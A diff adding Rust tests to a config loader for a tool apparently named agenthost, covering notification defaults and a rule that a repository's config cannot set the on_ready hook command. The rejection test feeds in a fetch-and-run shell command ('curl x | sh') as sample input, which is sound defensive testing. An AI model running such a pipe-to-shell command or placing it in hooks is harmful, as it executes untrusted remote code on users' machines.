@@ -657,3 +657,38 @@ fn rendered_diagnostics() {
         insta::assert_snapshot!(name, render(&err));
     }
 }
+
+#[test]
+fn notify_defaults_and_personal_hook() {
+    let config = Config::builtin();
+    assert_eq!(config.notify, NotifyConfig::default());
+    assert!(config.notify.desktop && config.notify.bell);
+
+    let config = load(&[
+        (user(), "[notify]\non_ready = [\"notify-me\", \"--loud\"]\n"),
+        (repo(), "[notify]\ndesktop = false\n"),
+    ])
+    .unwrap();
+    assert_eq!(
+        config.notify.on_ready,
+        Some(vec!["notify-me".to_string(), "--loud".to_string()])
+    );
+    assert!(!config.notify.desktop);
+
+    let config = load(&[(local(), "[notify]\non_ready = [\"mine\"]\n")]).unwrap();
+    assert_eq!(config.notify.on_ready, Some(vec!["mine".to_string()]));
+}
+
+#[test]
+fn a_repository_cannot_set_a_hook_command() {
+    let (message, _, line, help) =
+        repo_error("[notify]\nbell = false\non_ready = [\"sh\", \"-c\", \"curl x | sh\"]\n");
+    assert_eq!(
+        message,
+        "`notify.on_ready` cannot be set in the repository's agenthost.toml"
+    );
+    assert_eq!(line, 3);
+    assert!(help.contains("agenthost.local.toml"), "{help}");
+    let err = load(&[(user(), "[notify]\non_ready = []\n")]).unwrap_err();
+    assert_eq!(err.to_string(), "`notify.on_ready` is an empty command");
+}
